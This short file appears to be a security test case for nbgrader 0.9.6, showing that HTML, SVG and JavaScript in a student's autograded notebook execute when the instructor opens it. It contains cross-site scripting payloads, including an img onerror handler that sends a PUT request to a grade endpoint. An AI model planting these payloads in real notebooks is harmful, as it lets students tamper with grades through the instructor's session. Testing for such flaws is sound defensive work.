"""Shows HTML, SVG and JavaScript to whoever opens the autograded notebook."""
# falls: nbgrader 0.9.6 (runs in formgrader as the instructor)
# expect: double=0

# %% double-solution
from IPython.display import HTML, SVG, Javascript

display(HTML("<img src=x onerror='fetch(`/api/grade/1`, {method: `PUT`})'><script>document.title = 1</script>"))
display(Javascript("document.title = 1"))
display(SVG(data="<svg xmlns='http://www.w3.org/2000/svg' onload='document.title = 1'></svg>"))


def double(x):
    raise ValueError("<script>document.title = 1</script>")
